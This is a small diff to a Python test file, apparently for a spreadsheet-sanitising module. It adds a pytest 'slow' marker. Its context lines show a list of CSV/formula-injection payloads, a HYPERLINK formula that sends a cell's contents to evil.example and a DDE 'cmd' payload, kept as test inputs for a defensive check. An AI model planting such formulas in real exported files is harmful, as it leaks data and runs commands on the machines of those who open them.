@@ -16,6 +16,8 @@ from coala_kedro.sources import read_pseudonyms
 from coala_kedro.spreadsheet import harmless
 from coala_kedro.statistics.paper import paper_figures
 
+pytestmark = pytest.mark.slow
+
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"scanner")',
     "+1+cmd|' /C calc'!A0",
